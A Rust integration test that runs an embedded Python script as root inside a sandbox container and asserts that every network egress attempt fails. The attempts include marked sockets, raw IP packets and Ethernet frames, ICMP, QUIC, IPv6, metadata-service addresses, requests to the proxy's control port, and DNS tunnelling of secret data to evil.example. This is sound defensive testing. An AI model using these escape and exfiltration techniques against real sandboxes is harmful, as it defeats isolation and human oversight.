//! Root in the sandbox tries every way but the one that is judged. Nothing may come back, and nothing may arrive anywhere.
use crate::kit::World;
use crate::support::{docker, processes, script, sidecar, wait_for};
use serde_json::{json, Value};
use std::io::{Read, Write};
use std::net::{TcpListener, UdpSocket};
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// Makes all tries at once and prints what came back from each that got something, by its name.
const PROGRAM: &str = r#"
import json, os, socket, struct, sys, threading
a = json.loads(sys.argv[1])
host, sink, mac = a["host"], a["sink"], bytes.fromhex(a["mac"].replace(":", ""))
got, threads = {}, []
def run(name, action):
    def go():
        try:
            said = action()
            if said: got[name] = said.decode("latin-1")
        except OSError: pass
    threads.append(threading.Thread(target=go))
    threads[-1].start()
    if len(threads) % 100 == 0: [t.join() for t in threads]
def tcp(to, port, say=b"GET / HTTP/1.0\r\nHost: evil.example\r\n\r\n", mark=None, source=None):
    s = socket.socket(socket.AF_INET6 if ":" in to else socket.AF_INET)
    s.settimeout(3)
    if mark is not None: s.setsockopt(socket.SOL_SOCKET, 36, mark)
    if source: s.bind(("", source))
    s.connect((to, port)); s.sendall(say)
    return s.recv(300)
def udp(to, port, say=b"LEAK-udp", mark=None):
    s = socket.socket(socket.AF_INET6 if ":" in to else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    if mark is not None: s.setsockopt(socket.SOL_SOCKET, 36, mark)
    s.sendto(say, (to, port))
    return s.recv(300)
def total(data):
    n = sum(struct.unpack(f"!{len(data) // 2}H", data + b"\0" * (len(data) % 2))); n = (n >> 16) + (n & 65535)
    return ~(n + (n >> 16)) & 65535
def ping(to, kind):
    s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
    s.settimeout(3)
    echo = struct.pack("!BBHHH", 8, 0, 0, 7, 1) + b"LEAK-icmp!"
    s.sendto(echo[:2] + struct.pack("!H", total(echo)) + echo[4:], (to, 0))
    return s.recv(300)
def datagram(own, to, port, say):
    u = struct.pack("!HHHH", 7777, port, 8 + len(say), 0) + say
    h = struct.pack("!BBHHHBBH4s4s", 69, 0, 20 + len(u), 1, 0, 64, 17, 0, socket.inet_aton(own), socket.inet_aton(to))
    return h[:10] + struct.pack("!H", total(h)) + h[12:] + u
def raw(own, to, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.sendto(datagram(own, to, port, b"LEAK-raw"), (to, 0))
def frame(own, to, port, bypass):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    if bypass: s.setsockopt(263, 20, 1)
    s.bind(("eth0", 0))
    mine = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
    s.send(mac + mine + b"\x08\0" + datagram(own, to, port, b"LEAK-frame"))
own = socket.inet_ntoa(struct.pack("<I", 0))
probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try: probe.connect((host, 9)); own = probe.getsockname()[0]
except OSError: pass
quic = b"\xc0\0\0\0\1\x08LEAKquic\0" + b"\0" * 1200
for mark in [None, 1, 100, 0x1000, 0xffffffff]:
    run(f"tcp sink mark {mark}", lambda mark=mark: tcp(host, sink, b"LEAK-tcp", mark))
    run(f"udp sink mark {mark}", lambda mark=mark: udp(host, sink, b"LEAK-udp", mark))
run("tcp sink from the interceptor's port", lambda: tcp(host, sink, b"LEAK-tcp", source=39001))
run("raw", lambda: raw(own, host, sink))
run("frame", lambda: frame(own, host, sink, False))
run("frame around the queue", lambda: frame(own, host, sink, True))
run("ping", lambda: ping(host, socket.SOCK_RAW))
for to in a["far"] + a["neighbours"]: run(f"ping {to}", lambda to=to: ping(to, socket.SOCK_RAW))
for to in [host] + a["far"]: run(f"quic {to}", lambda to=to: udp(to, 443, quic))
run("ntp", lambda: udp(host, 123)); run("broadcast", lambda: udp("172.17.255.255", sink)); run("multicast", lambda: udp("224.0.0.251", 5353))
for to in ["::1", "2001:db8::1", "fe80::1%eth0", "ff02::1%eth0"]:
    for port in [80, 443, 39001, sink]: run(f"tcp [{to}]:{port}", lambda to=to, port=port: tcp(to, port))
    run(f"udp [{to}]", lambda to=to: udp(to, sink))
ports = [1, 22, 25, 53, 81, 123, 444, 465, 853, 2375, 3128, 5432, 6379, 8080, 8300, 8443, 8700, 39001] + a["ports"]
for to in [host, own] + a["far"] + a["neighbours"]:
    for port in ports:
        if (to, port) != (own, 8300): run(f"tcp {to}:{port}", lambda to=to, port=port: tcp(to, port))
    run(f"tcp {to} control", lambda to=to: tcp(to, 39001, b"PUT /egress HTTP/1.1\r\nHost: x\r\nContent-Length: 29\r\n\r\n{\"internet\":{\"enabled\": true}}"))
    run(f"tcp {to} connect", lambda to=to: tcp(to, 39001, b"CONNECT 127.0.0.1:8300 HTTP/1.1\r\nHost: x\r\nX-Dst-Addr: 127.0.0.1:8300\r\n\r\n"))
for port in a["ports"]:
    run(f"tcp workerd {port}", lambda port=port: tcp(host, port, b"CONNECT 11.0.0.1:80 HTTP/1.1\r\nHost: 11.0.0.1:80\r\nX-Hostname: model.internal\r\n\r\n"))
for t in threads: t.join()
print(json.dumps(got))
"#;

/// Asks the resolvers for long names of many types, and prints what is in the answers.
const QUESTIONS: &str = r#"
import json, os, socket, struct, sys
said = set()
def ask(to, name, kind):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
    q = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    s.sendto(struct.pack("!HHHHHH", 7, 256, 1, 0, 0, 0) + q + struct.pack("!HH", kind, 1), (to, 53))
    try: r = s.recv(4096)
    except OSError: return said.add("silence")
    count, at = struct.unpack("!H", r[6:8])[0], 12 + len(q) + 4
    said.add(f"rcode {r[3] & 15}" if not count else f"answers {count}")
    for _ in range(count):
        at += 2 if r[at] & 192 else len(q)
        of, _, _, n = struct.unpack("!HHIH", r[at:at + 10])
        said.add(f"{of} " + (socket.inet_ntoa(r[at + 10:at + 14]) if of == 1 else r[at + 10:at + 10 + n].hex()))
        at += 10 + n
secret = os.urandom(90).hex()
for to in sys.argv[1:]:
    for name in ["allowed.example", "evil.example", f"{secret[:60]}.{secret[60:120]}.{secret[120:180]}.evil.example", "example.com"]:
        for kind in [1, 2, 5, 6, 12, 15, 16, 28, 33, 64, 65, 252, 255]: ask(to, name, kind)
print(json.dumps(sorted(said)))
"#;

/// Addresses of documents, private networks and metadata services: nobody's, if something did get there.
const FAR: [&str; 6] = [
    "192.0.2.1",
    "203.0.113.1",
    "10.0.0.1",
    "192.168.1.1",
    "169.254.169.254",
    "100.100.100.200",
];

/// Listens on the host, at every address, and keeps what arrives. It answers, so that a leak would also come back.
struct Sink {
    port: u16,
    arrived: Arc<Mutex<Vec<String>>>,
}

impl Sink {
    fn listen() -> Self {
        let tcp = TcpListener::bind("0.0.0.0:0").unwrap();
        let port = tcp.local_addr().unwrap().port();
        let udp = UdpSocket::bind(("0.0.0.0", port)).unwrap();
        let arrived: Arc<Mutex<Vec<String>>> = Arc::default();
        let (streams, datagrams) = (arrived.clone(), arrived.clone());
        std::thread::spawn(move || {
            for mut stream in tcp.incoming().flatten() {
                streams.lock().unwrap().push("connection".to_owned());
                let mut bytes = [0; 64];
                let _ = stream.set_read_timeout(Some(Duration::from_secs(1)));
                let read = stream.read(&mut bytes).unwrap_or(0);
                streams
                    .lock()
                    .unwrap()
                    .push(String::from_utf8_lossy(&bytes[..read]).into_owned());
                let _ = stream.write_all(b"SINK");
            }
        });
        std::thread::spawn(move || loop {
            let mut bytes = [0; 64];
            if let Ok((read, from)) = udp.recv_from(&mut bytes) {
                datagrams
                    .lock()
                    .unwrap()
                    .push(String::from_utf8_lossy(&bytes[..read]).into_owned());
                let _ = udp.send_to(b"SINK", from);
            }
        });
        Self { port, arrived }
    }

    fn take(&self) -> Vec<String> {
        std::thread::sleep(Duration::from_millis(200));
        std::mem::take(&mut self.arrived.lock().unwrap())
    }
}

fn address(sidecar: &str) -> String {
    docker(&["inspect", "-f", "{{.NetworkSettings.IPAddress}}", sidecar])
        .trim()
        .to_owned()
}

/// What an interceptor was started with for `--http-egress-port`, and the port that the engine publishes for its own.
fn ports(sidecar: &str) -> Vec<u16> {
    let format =
        "{{json .Args}} {{(index (index .NetworkSettings.Ports \"39001/tcp\") 0).HostPort}}";
    let said = docker(&["inspect", "-f", format, sidecar]);
    let (arguments, published) = said.trim().rsplit_once(' ').unwrap();
    let arguments: Vec<String> = serde_json::from_str(arguments).unwrap();
    let at = arguments
        .iter()
        .position(|one| one == "--http-egress-port")
        .unwrap();
    vec![
        arguments[at + 1].parse().unwrap(),
        published.parse().unwrap(),
    ]
}

#[test]
fn nothing_gets_past_the_border_on_any_other_way() {
    let world = World::allowing(&["allowed.example"]);
    // Another sandbox beside it, in mid-turn as well.
    let input = script("go", &[json!({ "wait": "beside", "say": "ok" })]);
    let other = world.gateway.client("globex").session(Some(&input));
    wait_for(
        "the neighbour's model call",
        Duration::from_secs(60),
        || (world.model.requests().len() >= 2).then_some(()),
    );
    let image = |name: &str| std::env::var(name).unwrap();
    let docker_of = world.gateway.docker();
    let harnesses = docker_of.running(&image("CLOISTER_HARNESS_IMAGE"));
    let sandboxes = docker_of.running(&image("CLOISTER_SANDBOX_IMAGE"));
    assert_eq!((harnesses.len(), sandboxes.len()), (2, 2));
    let others = harnesses
        .iter()
        .chain(&sandboxes)
        .filter(|id| **id != world.sandbox);
    let sidecars: Vec<String> = others.map(|id| sidecar(id).unwrap()).collect();
    let own = sidecar(&world.sandbox).unwrap();
    let mut known: Vec<u16> = sidecars
        .iter()
        .chain([&own])
        .flat_map(|sidecar| ports(sidecar))
        .collect();
    known.push(
        world
            .gateway
            .url()
            .rsplit(':')
            .next()
            .unwrap()
            .parse()
            .unwrap(),
    );
    known.push(
        world
            .upstream
            .address()
            .rsplit(':')
            .next()
            .unwrap()
            .parse()
            .unwrap(),
    );
    let sink = Sink::listen();
    known.push(sink.port);
    let neighbours: Vec<String> = sidecars.iter().map(|sidecar| address(sidecar)).collect();
    let mac = std::fs::read_to_string("/sys/class/net/docker0/address").unwrap();
    let attack = |run: &[&str], far: &[&str]| -> serde_json::Map<String, Value> {
        let asked = json!({
            "host": "172.17.0.1", "sink": sink.port, "mac": mac.trim(), "far": far, "neighbours": neighbours, "ports": known,
        });
        let said = docker(&[run, &["python3", "-c", PROGRAM, &asked.to_string()]].concat());
        serde_json::from_str(&said).unwrap_or_else(|_| panic!("{said}"))
    };

    // From a container without the border, to know that each of these can be seen.
    let control = attack(&["run", "--rm", &image("CLOISTER_SANDBOX_IMAGE")], &[]);
    for way in ["tcp sink mark None", "udp sink mark None", "ping"] {
        assert!(control.contains_key(way), "{way}: {control:?}");
    }
    let arrived = sink.take();
    for what in ["LEAK-tcp", "LEAK-udp", "LEAK-raw", "LEAK-frame"] {
        assert!(arrived.iter().any(|one| one == what), "{what}: {arrived:?}");
    }

    for network in [
        json!({ "access": "restricted", "allowed_domains": ["allowed.example"] }),
        json!({ "access": "enabled" }),
    ] {
        world.replace(&network);
        let got = attack(&["exec", "-u", "0", &world.sandbox], &FAR);
        assert!(got.is_empty(), "{network}: {got:#?}");
        assert_eq!(sink.take(), [""; 0], "{network}");
        let said = docker(&[
            "exec",
            "-u",
            "0",
            &world.sandbox,
            "python3",
            "-c",
            QUESTIONS,
            "1.1.1.1",
            "8.8.8.8",
            "172.17.0.1",
            "192.0.2.1",
        ]);
        let said: Vec<String> = serde_json::from_str(&said).unwrap_or_else(|_| panic!("{said}"));
        let harmless = ["silence", "answers 1", "1 11.0.0.1", "rcode 0", "rcode 3"];
        assert!(
            said.iter().all(|one| harmless.contains(&one.as_str())),
            "{said:?}"
        );
        assert!(said.iter().any(|one| one == "1 11.0.0.1"), "{said:?}");
    }
    // Nobody noticed anything: the containers live, the sessions go on, and nothing was asked in their name.
    for id in harnesses.iter().chain(&sandboxes) {
        assert!(!processes(id).is_empty(), "{id}");
    }
    assert_eq!(world.upstream.hosts(), [""; 0]);
    assert_eq!(world.model.requests().len(), 2);
    for (tenant, held, session) in [
        ("acme", "held", &world.session),
        (
            "globex",
            "beside",
            &other["id"].as_str().unwrap().to_owned(),
        ),
    ] {
        assert!(world.model.release(held));
        assert_eq!(
            world.gateway.client(tenant).settled_turn(session)["status"],
            "completed"
        );
    }
}
